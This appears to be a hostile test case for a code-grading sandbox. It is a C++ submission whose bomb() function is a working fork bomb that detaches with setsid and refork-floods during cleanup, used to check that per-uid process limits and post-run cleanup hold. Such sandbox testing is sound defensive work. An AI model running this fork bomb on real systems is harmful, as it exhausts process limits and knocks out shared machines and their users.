// expect: wrong_answer
// message: never written
// Hostile (11): a fork bomb. It forks until the sandbox's per-uid process limit stops it; every child leaves
// the harness's process group (setsid) and waits, using no CPU, on a pipe whose only writer is the harness.
// When the harness exits and the sandbox starts killing, every child (and every child of theirs) forks as
// fast as it can, refilling each slot the sweep frees. The output is computed only if the bomb got more
// processes than the limit allows, so wrong_answer proves the limit held; the test then checks that not
// one of the processes outlived the run (and kills them itself with kill(-1) as the uid, if some did), and
// waits until the killed ones are reaped: until then they still count against the uid's process limit,
// which the grader's next run shares (docs/security.md).
#include <signal.h>
#include <unistd.h>

#include <cmath>

static long forked = -1;

static long bomb() {
    int fds[2];
    if (pipe(fds) != 0) return 0;
    long made = 0;
    for (int i = 0; i < 5000; ++i) {
        pid_t pid = fork();
        if (pid < 0) break;
        if (pid == 0) {
            close(fds[1]);
            setsid();
            char c;
            while (read(fds[0], &c, 1) != 0) {}  // until the harness, the pipe's only writer, is gone
            for (;;) fork();
        }
        ++made;
    }
    return made;
}

void solve(const float* input, float* output, int M, int N) {
    if (forked < 0) forked = bomb();
    if (forked < 2000) return;  // the process limit held: leave the output unwritten
    for (int r = 0; r < M; ++r) {
        const float* x = input + (size_t)r * N;
        float* y = output + (size_t)r * N;
        float m = x[0];
        for (int i = 1; i < N; ++i) m = std::fmax(m, x[i]);
        double s = 0;
        for (int i = 0; i < N; ++i) s += std::exp((double)x[i] - m);
        for (int i = 0; i < N; ++i) y[i] = (float)(std::exp((double)x[i] - m) / s);
    }
}
